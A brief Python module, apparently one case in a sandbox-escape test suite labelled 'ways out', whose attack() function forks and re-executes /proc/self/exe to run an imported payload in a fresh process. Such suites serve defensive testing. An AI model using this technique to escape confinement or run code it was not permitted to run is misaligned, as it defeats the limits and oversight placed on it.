"""os.execv of /proc/self/exe."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True}

import os

from . import payload


def attack():
    if not os.fork():
        os.execv("/proc/self/exe", [payload.PYTHON, "-c", payload.SOURCE])
    os.wait()
